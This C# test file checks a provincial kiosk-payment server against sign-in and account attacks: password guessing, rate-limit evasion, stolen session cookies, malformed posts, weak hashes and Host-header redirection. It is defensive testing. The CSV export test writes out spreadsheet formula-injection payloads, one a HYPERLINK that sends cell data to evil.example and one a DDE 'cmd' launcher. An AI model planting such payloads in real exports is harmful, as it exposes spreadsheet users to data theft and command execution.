using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using KioskPos.ProvinceServer.Data;
using KioskPos.Shared.Security;

namespace KioskPos.ProvinceServer.Tests;

/// <summary>
/// Attacks on the people who sign in to the province server (issue 18): a server on shipped settings, guessing
/// passwords (in parallel, by name, from one address), a stolen cookie after sign-out or a password reset, a sign-in
/// post that is not a form, formulas in a CSV export, old password hashes, the bank simulator.
/// </summary>
public sealed class AccountAttackTests
{
    private const string Accountant = "ketoan.nguyendu";
    private const string AccountantPassword = "KeToan@2026";

    [Fact]
    [Trait("Category", "Attack")]
    [Trait("Category", "Process")]
    [Attack("start the province executable on its shipped settings and sign in as the demo administrator; open /bank-sim",
        "no user exists, the demo login is refused, /bank-sim is 404; the first administrator comes only from the command line (password on stdin, a weak one refused, a second one only with --another)")]
    public async Task A_server_on_shipped_settings_has_no_user_no_bank_simulator_and_refuses_the_demo_login()
    {
        var folder = Directory.CreateTempSubdirectory("kioskpos-shipped-").FullName;
        var port = LoopbackPort.Next();
        var url = new Uri($"http://127.0.0.1:{port}");
        var server = Processes.Start("province-server/KioskPos.ProvinceServer", "kioskpos-province.dll",
            $"--urls={url}", $"--Province:DataDirectory={folder}", "--Province:AdminToken=shipped-test-token");
        try
        {
            using var http = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false, UseCookies = false }) { BaseAddress = url };
            await Processes.WaitHealthyAsync(http, new Uri(url, "/health").ToString(), server);

            using (var admin = new HttpRequestMessage(HttpMethod.Get, "/api/v1/admin/users"))
            {
                admin.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", "shipped-test-token");
                using var users = await http.SendAsync(admin);
                Assert.Equal("[]", (await users.Content.ReadAsStringAsync()).Trim());
            }

            Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync("/bank-sim")).StatusCode);
            Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync("/bank-sim/payments")).StatusCode);
            using (var demo = await PostLoginAsync(http, "tinh.admin", "QuanTri@2026"))
            {
                Assert.Equal(HttpStatusCode.Redirect, demo.StatusCode);
                Assert.StartsWith("/login?error=wrong", demo.Headers.Location!.OriginalString, StringComparison.Ordinal);
                Assert.False(demo.Headers.Contains("Set-Cookie"));
            }

            // No institution (so no card, no balance): nothing of the demo province.
            using (var admin = new HttpRequestMessage(HttpMethod.Get, "/api/v1/admin/institutions"))
            {
                admin.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", "shipped-test-token");
                using var institutions = await http.SendAsync(admin);
                Assert.Equal("[]", (await institutions.Content.ReadAsStringAsync()).Trim());
            }

            // The server says how to make the first administrator: in its log and on the sign-in page.
            using (var page = await http.GetAsync("/login"))
            {
                Assert.Equal("/login?setup=first-admin", page.Headers.Location!.OriginalString);
            }

            Assert.Contains("users add-admin", Processes.Log(server), StringComparison.Ordinal);

            string[] config = [$"--Province:DataDirectory={folder}"];
            var weak = await ProvinceCliAsync("ngan-qua\n", ["users", "add-admin", "tinh.quantri", "--full-name", "Quản trị Sở Tài chính", .. config]);
            Assert.True(weak.Exit == 2, weak.Output + weak.Error);
            var created = await ProvinceCliAsync("mat-khau-rat-dai-2026\n", ["users", "add-admin", "tinh.quantri", "--full-name", "Quản trị Sở Tài chính", .. config]);
            Assert.True(created.Exit == 0, created.Output + created.Error);
            var second = await ProvinceCliAsync("mot-mat-khau-khac-2026\n", ["users", "add-admin", "tinh.quantri2", "--full-name", "Người thứ hai", .. config]);
            Assert.True(second.Exit == 2, second.Output + second.Error);
            Assert.Contains("--another", second.Error, StringComparison.Ordinal);
            var another = await ProvinceCliAsync("mot-mat-khau-khac-2026\n", ["users", "add-admin", "tinh.quantri2", "--full-name", "Người thứ hai", "--another", .. config]);
            Assert.True(another.Exit == 0, another.Output + another.Error);

            using (var signedIn = await PostLoginAsync(http, "tinh.quantri", "mat-khau-rat-dai-2026"))
            {
                Assert.Equal((HttpStatusCode.Redirect, "/"), (signedIn.StatusCode, signedIn.Headers.Location!.OriginalString));
                Assert.Contains(signedIn.Headers.GetValues("Set-Cookie"), c => c.StartsWith("kp_province=", StringComparison.Ordinal));
            }

            using (var page = await http.GetAsync("/login"))
            {
                Assert.Equal(HttpStatusCode.OK, page.StatusCode);
            }
        }
        finally
        {
            await Processes.StopAsync(server);
            Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
            Directory.Delete(folder, recursive: true);
        }
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("20 wrong passwords for one account posted at once",
        "each is counted: the account's and the address's counts are exactly 20 (one INSERT … ON CONFLICT DO UPDATE … RETURNING each)")]
    public Task Wrong_passwords_posted_in_parallel_are_each_counted() => ParallelWrongPasswordsAsync(ProvinceEngine.Sqlite);

    [Fact]
    [Trait("Category", "Attack")]
    [Trait("Category", "Postgres")]
    [Attack("20 wrong passwords for one account posted at once, the server on PostgreSQL",
        "each is counted: the account's and the address's counts are exactly 20")]
    public Task Wrong_passwords_posted_in_parallel_are_each_counted_on_PostgreSQL() => ParallelWrongPasswordsAsync(ProvinceEngine.Postgres);

    private async Task ParallelWrongPasswordsAsync(ProvinceEngine engine, [System.Runtime.CompilerServices.CallerMemberName] string test = "")
    {
        await using var province = await ProvinceHost.StartAsync(engine: engine, settings: ["--Province:SignIn:AccountFailuresBeforeDelay=1000", "--Province:SignIn:SourceFailuresBeforeDelay=1000", "--Province:SignIn:RequestsPerMinute=1000"]);
        using var http = Anonymous(province);
        const int guesses = 20;
        var answers = await Task.WhenAll(Enumerable.Range(0, guesses).Select(async i =>
        {
            using var answer = await PostLoginAsync(http, Accountant, $"doan-sai-{i}");
            return answer.Headers.Location?.OriginalString;
        }));

        Assert.All(answers, a => Assert.StartsWith("/login?error=wrong", a, StringComparison.Ordinal));
        var user = (await province.Admin.GetFromJsonAsync<JsonElement[]>("/api/v1/admin/users"))!.Single(u => u.GetProperty("username").GetString() == Accountant);
        Assert.Equal(guesses, user.GetProperty("failedSignIns").GetInt64());
        Assert.Equal(guesses, Convert.ToInt64(await province.ScalarAsync("SELECT failures FROM sign_in_throttle WHERE subject = 'source:127.0.0.1'")));
        AttackReport.Measured(this, $"{guesses} parallel wrong passwords, {guesses} counted ({engine})", test);
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("guess an accountant's password again and again, and a name that does not exist the same way",
        "after 5 failures each further one doubles a wait (answered 'wait' for both names alike, right password included); an alert is raised; after the wait the right password signs in: no lock for good")]
    public async Task Guessing_earns_a_growing_wait_not_a_lock_and_an_unknown_name_gets_the_same_answers()
    {
        await using var province = await ProvinceHost.StartAsync(settings: ["--Province:SignIn:FirstDelay=00:00:01", "--Province:SignIn:RequestsPerMinute=1000"]);
        using var http = Anonymous(province);

        async Task<List<string>> GuessAsync(string username)
        {
            var seen = new List<string>();
            for (var i = 0; i < ProvinceUsers.MaxFailures; i++)
            {
                using var answer = await PostLoginAsync(http, username, $"doan-sai-{i}");
                seen.Add(Error(answer));
            }

            // At once, during the wait: refused without looking at the password, even the right one.
            using var during = await PostLoginAsync(http, username, AccountantPassword);
            seen.Add(Error(during));
            Assert.False(during.Headers.Contains("Set-Cookie"));
            return seen;
        }

        var known = await GuessAsync(Accountant);
        var unknown = await GuessAsync("ketoan.khongtontai");
        Assert.Equal(["wrong", "wrong", "wrong", "wrong", "wait", "wait"], known);
        Assert.Equal(known, unknown);

        // After the wait one more wrong password doubles it; after that one, the right password works.
        await Task.Delay(TimeSpan.FromSeconds(1.2));
        using (var again = await PostLoginAsync(http, Accountant, "doan-sai-lan-nua"))
        {
            Assert.Equal("wait", Error(again));
            Assert.Contains("seconds=2", again.Headers.Location!.OriginalString, StringComparison.Ordinal);
        }

        await Task.Delay(TimeSpan.FromSeconds(2.2));
        using (var right = await PostLoginAsync(http, Accountant, AccountantPassword))
        {
            Assert.Equal((HttpStatusCode.Redirect, "/report"), (right.StatusCode, right.Headers.Location!.OriginalString));
        }

        // The administrator sees who passed the threshold (an unknown name too: someone is trying names).
        var alerts = (await province.Admin.GetFromJsonAsync<JsonElement[]>("/api/v1/admin/alerts"))!;
        Assert.Contains(alerts, a => a.GetProperty("kind").GetString() == "sign_in.account" && a.GetProperty("detail").GetString()!.StartsWith($"user:{Accountant}:", StringComparison.Ordinal));
        Assert.Contains(alerts, a => a.GetProperty("detail").GetString()!.StartsWith("user:ketoan.khongtontai:", StringComparison.Ordinal));
        var user = (await province.Admin.GetFromJsonAsync<JsonElement[]>("/api/v1/admin/users"))!.Single(u => u.GetProperty("username").GetString() == Accountant);
        Assert.Equal(0, user.GetProperty("failedSignIns").GetInt64());
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("post 20 sign-ins at once from one address (limit set to 5 a minute)", "the 15 beyond the limit are answered 429 with Retry-After, before any password is hashed")]
    public async Task A_flood_of_sign_ins_from_one_address_is_answered_429()
    {
        await using var province = await ProvinceHost.StartAsync(settings: ["--Province:SignIn:RequestsPerMinute=5"]);
        using var http = Anonymous(province);
        var answers = await Task.WhenAll(Enumerable.Range(0, 20).Select(async i =>
        {
            using var answer = await PostLoginAsync(http, "ke.tan.cong", $"doan-{i}");
            return (answer.StatusCode, RetryAfter: answer.Headers.RetryAfter?.Delta, Type: answer.Content.Headers.ContentType?.MediaType);
        }));

        var refused = answers.Where(a => a.StatusCode == HttpStatusCode.TooManyRequests).ToList();
        Assert.Equal(15, refused.Count);
        Assert.All(refused, r => Assert.True(r.RetryAfter > TimeSpan.Zero && r.Type == "application/problem+json"));
        Assert.Equal(5, answers.Count(a => a.StatusCode == HttpStatusCode.Redirect));
        AttackReport.Measured(this, $"20 posts at once: {refused.Count} answered 429");
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("post sign-ins from a new IPv6 address inside one /64 for each (a host holds its whole /64; limit set to 4 a minute)",
        "the /64 is one source: 429 past its 4 posts, and its wrong passwords counted under one source counter; another /64 has its own")]
    public async Task Sign_ins_from_rotating_ipv6_addresses_inside_one_64_are_one_source()
    {
        const int Limit = 4;
        const int Posts = 10;
        await using var province = await ProvinceHost.StartAsync(
            settings: [$"--Province:SignIn:RequestsPerMinute={Limit}", "--Province:SignIn:AccountFailuresBeforeDelay=1000", "--Province:SignIn:SourceFailuresBeforeDelay=1000"],
            configure: builder => RemoteAddressFromHeader.AddTo(builder.Services));

        // Kestrel here listens on 127.0.0.1 and no IPv6 address but ::1 can be bound: the server is told each request's
        // remote address by a test-only header, read before its own pipeline.
        var statuses = new List<HttpStatusCode>();
        for (var i = 0; i < Posts; i++)
        {
            using var http = From(province, $"2001:db8:9:9:{i + 1:x}:{i * 4099:x}::{i + 3:x}");
            using var answer = await PostLoginAsync(http, $"ke.tan.cong.{i}", $"doan-{i}");
            statuses.Add(answer.StatusCode);
        }

        Assert.Equal([.. Enumerable.Repeat(HttpStatusCode.Redirect, Limit), .. Enumerable.Repeat(HttpStatusCode.TooManyRequests, Posts - Limit)], statuses);
        Assert.Equal(Limit, Convert.ToInt64(await province.ScalarAsync("SELECT failures FROM sign_in_throttle WHERE subject = 'source:2001:db8:9:9::/64'")));
        Assert.Equal(0, Convert.ToInt64(await province.ScalarAsync("SELECT COUNT(*) FROM sign_in_throttle WHERE subject LIKE 'source:2001:db8:9:9:%' AND subject <> 'source:2001:db8:9:9::/64'")));

        using (var neighbour = From(province, "2001:db8:9:a::1"))
        using (var answer = await PostLoginAsync(neighbour, "ke.tan.cong", "doan"))
        {
            Assert.Equal(HttpStatusCode.Redirect, answer.StatusCode);
        }

        AttackReport.Measured(this, $"{Limit} posts a minute: {Posts} posts from {Posts} addresses in 2001:db8:9:9::/64, {statuses.Count(s => s == HttpStatusCode.TooManyRequests)} answered 429; {Limit} wrong passwords counted under source:2001:db8:9:9::/64");
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("post sign-ins from more addresses than the limit keeps budgets for (cap set to 3 sources, limit to 2 posts a minute)",
        "the addresses past the cap share one budget: 429 once it is used up, saying many addresses are signing in; the first 3 keep their own, and the machine's own loopback its own")]
    public async Task Sign_ins_from_more_sources_than_the_cap_share_one_budget()
    {
        const int Cap = 3;
        const int Limit = 2;
        await using var province = await ProvinceHost.StartAsync(
            settings: [$"--Province:SignIn:MaxSources={Cap}", $"--Province:SignIn:RequestsPerMinute={Limit}",
                "--Province:SignIn:AccountFailuresBeforeDelay=1000", "--Province:SignIn:SourceFailuresBeforeDelay=1000"],
            configure: builder => RemoteAddressFromHeader.AddTo(builder.Services));

        // One post from each of 6 addresses: 3 take the places; the next 2 use up the shared budget, the sixth is refused.
        var statuses = new List<HttpStatusCode>();
        string? refusal = null;
        for (var i = 1; i <= 6; i++)
        {
            using var http = From(province, $"198.51.100.{i}");
            using var answer = await PostLoginAsync(http, $"ke.tan.cong.{i}", $"doan-{i}");
            statuses.Add(answer.StatusCode);
            if (answer.StatusCode == HttpStatusCode.TooManyRequests)
            {
                Assert.True(answer.Headers.RetryAfter?.Delta > TimeSpan.Zero, "Retry-After");
                refusal = await answer.Content.ReadAsStringAsync();
            }
        }

        Assert.Equal([.. Enumerable.Repeat(HttpStatusCode.Redirect, Cap + Limit), HttpStatusCode.TooManyRequests], statuses);
        var problem = JsonDocument.Parse(refusal!).RootElement;
        Assert.Equal("too_many_sign_ins", problem.GetProperty("code").GetString());
        Assert.DoesNotContain("this address", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(KioskPos.Core.Text.Messages.Vi("province.problem.too_many_sign_ins.overflow"), problem.GetProperty("title").GetString());

        // An address past the cap that has not posted yet, or one that used the shared budget, is refused; a tracked
        // address still has its own second post, and the loopback its own.
        using (var another = From(province, "2001:db8:77:1::1"))
        using (var answer = await PostLoginAsync(another, "ke.tan.cong.7", "doan-7"))
        {
            Assert.Equal(HttpStatusCode.TooManyRequests, answer.StatusCode);
        }

        using (var fourth = From(province, "198.51.100.4"))
        using (var answer = await PostLoginAsync(fourth, "ke.tan.cong.4", "doan-4"))
        {
            Assert.Equal(HttpStatusCode.TooManyRequests, answer.StatusCode);
        }

        using (var first = From(province, "198.51.100.1"))
        using (var answer = await PostLoginAsync(first, "ke.tan.cong.1", "doan-1"))
        {
            Assert.Equal(HttpStatusCode.Redirect, answer.StatusCode);
        }

        using (var loopback = Anonymous(province))
        using (var answer = await PostLoginAsync(loopback, "ke.tan.cong.8", "doan-8"))
        {
            Assert.Equal(HttpStatusCode.Redirect, answer.StatusCode);
        }

        AttackReport.Measured(this, $"{Limit} posts a minute, {Cap} sources: 6 addresses posting once each got {Cap + Limit} answers and a 429; a seventh address 429, the first address's second post answered");
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("reuse a copied session cookie after its owner signs out, after a password reset, and after 30 idle minutes",
        "the copy is refused each time: sessions are rows that sign-out, a new password or role, and the idle timeout end")]
    public async Task Sign_out_a_password_reset_and_idleness_end_a_copied_session()
    {
        await using var province = await ProvinceHost.StartAsync();

        // Sign-out ends the session on the server: a copy of the cookie taken before stops working.
        var (person1, stolen1) = await SignInAsync(province, Accountant, AccountantPassword);
        using (var person = person1)
        {
            var stolen = stolen1;
            Assert.Equal(HttpStatusCode.OK, (await WithCookieAsync(province, stolen, "/api/v1/reconciliation")).StatusCode);
            using (await person.PostAsync("/logout", null))
            {
            }

            Assert.Equal(HttpStatusCode.Unauthorized, (await WithCookieAsync(province, stolen, "/api/v1/reconciliation")).StatusCode);
        }

        // A new password (or role) from the administrator ends every session the person had.
        var (person2, stolen2) = await SignInAsync(province, Accountant, AccountantPassword);
        using (var person = person2)
        {
            var stolen = stolen2;
            using (var reset = await province.Admin.PutAsJsonAsync($"/api/v1/admin/users/{Accountant}", new { fullName = "Kế toán THCS Nguyễn Du", role = "accountant", institutionId = "TG-THCS-NGUYENDU", password = "mat-khau-moi-2026" }))
            {
                Assert.Equal(HttpStatusCode.NoContent, reset.StatusCode);
            }

            Assert.Equal(HttpStatusCode.Unauthorized, (await WithCookieAsync(province, stolen, "/api/v1/reconciliation")).StatusCode);
            Assert.Equal(HttpStatusCode.Unauthorized, (await person.GetAsync("/api/v1/reconciliation")).StatusCode);
        }

        // Idle for longer than 30 minutes (the session's last request moved back, as the clock would): ended.
        using (var person = await province.SignInAsync(Accountant, "mat-khau-moi-2026"))
        {
            Assert.Equal(HttpStatusCode.OK, (await person.GetAsync("/api/v1/reconciliation")).StatusCode);
            await province.ExecuteAsync("UPDATE sessions SET last_seen_at = last_seen_at - 1801");
            Assert.Equal(HttpStatusCode.Unauthorized, (await person.GetAsync("/api/v1/reconciliation")).StatusCode);
        }
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("post JSON, nothing, plain text, a form without a password, a multipart body without a boundary, a multipart body cut short inside its first part to /login",
        "400 problems naming the body or the field, never a 500")]
    public async Task A_sign_in_post_that_is_not_a_form_is_a_400_naming_what_is_wrong()
    {
        await using var province = await ProvinceHost.StartAsync();
        using var http = Anonymous(province);
        (HttpContent? Body, string Named)[] posts =
        [
            (JsonContent.Create(new { username = Accountant, password = AccountantPassword }), "body"),
            (null, "body"),
            (new StringContent("username=x&password=y", Encoding.UTF8, "text/plain"), "body"),
            (new FormUrlEncodedContent(new Dictionary<string, string> { ["username"] = Accountant }), "password"),
            (new StringContent("--x\r\n", Encoding.UTF8, "multipart/form-data"), "body"),
            (TruncatedMultipart(), "body"),
        ];
        foreach (var (body, named) in posts)
        {
            using var answer = await http.PostAsync("/login", body);
            var text = await answer.Content.ReadAsStringAsync();
            Assert.True(answer.StatusCode == HttpStatusCode.BadRequest, $"{body?.Headers.ContentType}: {(int)answer.StatusCode} {text}");
            Assert.Equal("application/problem+json", answer.Content.Headers.ContentType?.MediaType);
            Assert.Contains(named, JsonDocument.Parse(text).RootElement.GetProperty("detail").GetString(), StringComparison.Ordinal);
        }
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("as a signed-in administrator, post JSON, nothing, plain text and a multipart body cut short to the pages' forms (/reconciliation/resolve, /bank-sim/send)",
        "400 not_a_form problems naming the body, never a 500; the page's own form still goes back to the page")]
    public async Task A_page_form_post_that_is_not_a_form_is_a_400_naming_the_body()
    {
        await using var province = await ProvinceHost.StartAsync();
        using var administrator = await province.SignInAsync("tinh.admin", "QuanTri@2026");
        foreach (var path in (string[])["/reconciliation/resolve", "/bank-sim/send"])
        {
            HttpContent?[] posts =
            [
                JsonContent.Create(new { item = "transfer:1", note = "đã gọi phụ huynh" }),
                null,
                new StringContent("item=transfer:1&note=x", Encoding.UTF8, "text/plain"),
                TruncatedMultipart(),
            ];
            foreach (var body in posts)
            {
                using var answer = await administrator.PostAsync(path, body);
                var text = await answer.Content.ReadAsStringAsync();
                Assert.True(answer.StatusCode == HttpStatusCode.BadRequest, $"{path} {body?.Headers.ContentType}: {(int)answer.StatusCode} {text}");
                Assert.Equal("application/problem+json", answer.Content.Headers.ContentType?.MediaType);
                var problem = JsonDocument.Parse(text).RootElement;
                Assert.Equal("not_a_form", problem.GetProperty("code").GetString());
                Assert.StartsWith("body: ", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
            }
        }

        Assert.Equal(0L, Convert.ToInt64(await province.ScalarAsync("SELECT COUNT(*) FROM bank_transfers")));
        using var resolved = await administrator.PostAsync("/reconciliation/resolve",
            new FormUrlEncodedContent(new Dictionary<string, string> { ["item"] = "transfer:999999", ["note"] = "không có", ["back"] = "/reconciliation?from=2026-11-01" }));
        Assert.Equal(HttpStatusCode.Redirect, resolved.StatusCode);
        Assert.Equal("/reconciliation?from=2026-11-01", resolved.Headers.Location!.OriginalString);
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("name an institution =HYPERLINK(…) and its district +cmd|…, then export the plan report as CSV",
        "those cells start with ' (not run as formulas by a spreadsheet); the numbers stay numbers")]
    public async Task Formulas_in_names_are_neutralised_in_the_csv_export()
    {
        await using var province = await ProvinceHost.StartAsync();
        const string name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
        const string district = "+cmd|' /C calc'!A0";
        using (var put = await province.Admin.PutAsJsonAsync("/api/v1/admin/institutions/TG-TH-EVIL", new { name, type = "primary", district, commune = "@SUM(1+1)", oldProvince = "Tiền Giang" }))
        {
            Assert.Equal(HttpStatusCode.Created, put.StatusCode);
        }

        // In the default plan's area (the old Tiền Giang), so that the default report counts it.
        var csv = await province.Admin.GetStringAsync("/api/v1/admin/report/plan?format=csv");
        var line = csv.Split('\n').Single(l => l.StartsWith("TG-TH-EVIL,", StringComparison.Ordinal));
        var cells = ParseCsvLine(line);
        Assert.Equal("'" + name, cells[1]);
        Assert.Equal("'" + district, cells[3]);
        Assert.Equal(["0", "0", "0", "0"], cells[5..9]);
        foreach (var cell in cells)
        {
            Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r', $"a live formula cell: {cell}");
        }

        // Each character OWASP names, and a number-looking text left as text.
        Assert.Equal("'-2+3", Apis.ReportApi.Field("-2+3"));
        Assert.Equal("'@A1", Apis.ReportApi.Field("@A1"));
        Assert.Equal("'\tx", Apis.ReportApi.Field("\tx"));
        Assert.Equal("\"'\rx\"", Apis.ReportApi.Field("\rx"));
        Assert.Equal("Trường THCS Nguyễn Du", Apis.ReportApi.Field("Trường THCS Nguyễn Du"));
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("a password hash stored with 100,000 PBKDF2 iterations (older code)", "made again with 600,000 at the next right sign-in; a wrong one leaves it")]
    public async Task A_hash_with_fewer_iterations_is_made_again_at_the_next_sign_in()
    {
        await using var province = await ProvinceHost.StartAsync();
        var old = PinHash.Create(AccountantPassword);
        Assert.StartsWith("pbkdf2-sha256$100000$", old, StringComparison.Ordinal);
        await province.ExecuteAsync("UPDATE users SET password_hash = $h WHERE username = $u", ("$h", old), ("$u", Accountant));

        using var http = Anonymous(province);
        using (await PostLoginAsync(http, Accountant, "sai-mat-khau-roi"))
        {
        }

        Assert.Equal(old, await province.ScalarAsync("SELECT password_hash FROM users WHERE username = $u", ("$u", Accountant)));
        using (var person = await province.SignInAsync(Accountant, AccountantPassword))
        {
            Assert.Equal(HttpStatusCode.OK, (await person.GetAsync("/api/v1/reconciliation")).StatusCode);
        }

        var rehashed = (string)(await province.ScalarAsync("SELECT password_hash FROM users WHERE username = $u", ("$u", Accountant)))!;
        Assert.StartsWith($"pbkdf2-sha256${PasswordHash.Iterations}$", rehashed, StringComparison.Ordinal);
        using var again = await province.SignInAsync(Accountant, AccountantPassword);
        Assert.Equal(HttpStatusCode.OK, (await again.GetAsync("/api/v1/reconciliation")).StatusCode);
    }

    [Fact]
    [Trait("Category", "Attack")]
    [Attack("use /bank-sim without signing in or as an accountant; as an administrator, send with a Host header naming another server",
        "refused (to sign-in, or to the accountant's report); the administrator's notification goes to this server's own address, nothing to the named host")]
    public async Task The_bank_simulator_is_for_a_signed_in_administrator_and_posts_only_to_this_server()
    {
        await using var province = await ProvinceHost.StartAsync();
        using var anonymous = Anonymous(province);
        var form = new Dictionary<string, string> { ["account"] = ProvinceHost.SchoolAccount, ["amount"] = "1000", ["text"] = "CT tu NGUYEN VAN A", ["bin"] = "970436" };
        using (var page = await anonymous.GetAsync("/bank-sim"))
        {
            Assert.StartsWith("/login", page.Headers.Location!.OriginalString, StringComparison.Ordinal);
        }

        Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/bank-sim/payments")).StatusCode);
        using (var send = await anonymous.PostAsync("/bank-sim/send", new FormUrlEncodedContent(form)))
        {
            Assert.StartsWith("/login", send.Headers.Location!.OriginalString, StringComparison.Ordinal);
        }

        using (var accountant = await province.SignInAsync(Accountant, AccountantPassword))
        using (var send = await accountant.PostAsync("/bank-sim/send", new FormUrlEncodedContent(form)))
        {
            Assert.Equal("/report", send.Headers.Location!.OriginalString);
        }

        Assert.Equal(0L, Convert.ToInt64(await province.ScalarAsync("SELECT COUNT(*) FROM bank_transfers")));

        // The Host header names a listener of the attacker's: it must hear nothing.
        using var elsewhere = new TcpListener(IPAddress.Loopback, 0);
        elsewhere.Start();
        using var administrator = await province.SignInAsync("tinh.admin", "QuanTri@2026");
        using var request = new HttpRequestMessage(HttpMethod.Post, "/bank-sim/send") { Content = new FormUrlEncodedContent(form) };
        request.Headers.Host = $"127.0.0.1:{((IPEndPoint)elsewhere.LocalEndpoint).Port}";
        using (var sent = await administrator.SendAsync(request))
        {
            var result = Uri.UnescapeDataString(sent.Headers.Location!.OriginalString);
            Assert.Contains("HTTP 200", result, StringComparison.Ordinal);
        }

        Assert.False(elsewhere.Pending());
        Assert.Equal(1L, Convert.ToInt64(await province.ScalarAsync("SELECT COUNT(*) FROM bank_transfers")));
    }

    // A multipart form cut off inside its first part: ReadFormAsync meets the end of the stream before the boundary.
    private static ByteArrayContent TruncatedMultipart()
    {
        var content = new ByteArrayContent(Encoding.ASCII.GetBytes("--zz\r\nContent-Disposition: form-data; name=\"username\"\r\n\r\nx"));
        content.Headers.ContentType = System.Net.Http.Headers.MediaTypeHeaderValue.Parse("multipart/form-data; boundary=zz");
        return content;
    }

    private static HttpClient Anonymous(ProvinceHost province) =>
        new(new HttpClientHandler { AllowAutoRedirect = false, UseCookies = false }) { BaseAddress = province.BaseUrl };

    // An anonymous client the server sees coming from address (RemoteAddressFromHeader).
    private static HttpClient From(ProvinceHost province, string address)
    {
        var http = Anonymous(province);
        http.DefaultRequestHeaders.Add(RemoteAddressFromHeader.Header, address);
        return http;
    }

    private static Task<HttpResponseMessage> PostLoginAsync(HttpClient http, string username, string password) =>
        http.PostAsync("/login", new FormUrlEncodedContent(new Dictionary<string, string> { ["username"] = username, ["password"] = password, ["return"] = "/" }));

    // "wrong" or "wait" from the redirect back to the sign-in page.
    private static string Error(HttpResponseMessage answer)
    {
        var location = answer.Headers.Location?.OriginalString ?? $"({(int)answer.StatusCode})";
        var start = location.IndexOf("error=", StringComparison.Ordinal);
        return start < 0 ? location : location[(start + "error=".Length)..].Split('&')[0];
    }

    // Signs in as ProvinceHost.SignInAsync does, keeping the cookie container to copy the session cookie from.
    private static async Task<(HttpClient Client, string Cookie)> SignInAsync(ProvinceHost province, string username, string password)
    {
        var cookies = new CookieContainer();
        var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false, CookieContainer = cookies }) { BaseAddress = province.BaseUrl };
        using var answer = await PostLoginAsync(client, username, password);
        Assert.Equal(HttpStatusCode.Redirect, answer.StatusCode);
        return (client, cookies.GetCookies(province.BaseUrl)["kp_province"]!.Value);
    }

    private static async Task<HttpResponseMessage> WithCookieAsync(ProvinceHost province, string cookie, string path)
    {
        using var http = Anonymous(province);
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Add("Cookie", $"kp_province={cookie}");
        return await http.SendAsync(request);
    }

    private static List<string> ParseCsvLine(string line)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        cells.Add(cell.ToString());
        return cells;
    }

    // The province executable's command line, with input on its standard input.
    private static async Task<(int Exit, string Output, string Error)> ProvinceCliAsync(string input, string[] args)
    {
        var configuration = new DirectoryInfo(Path.TrimEndingDirectorySeparator(AppContext.BaseDirectory)).Parent!.Name;
        var dll = Path.Combine(RepositoryRoot.Find(), "province-server", "KioskPos.ProvinceServer", "bin", configuration, "net10.0", "kioskpos-province.dll");
        var start = new ProcessStartInfo("dotnet") { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        start.ArgumentList.Add(dll);
        foreach (var arg in args)
        {
            start.ArgumentList.Add(arg);
        }

        using var process = Process.Start(start)!;
        await process.StandardInput.WriteAsync(input);
        process.StandardInput.Close();
        var output = process.StandardOutput.ReadToEndAsync();
        var error = process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync();
        return (process.ExitCode, await output, await error);
    }
}
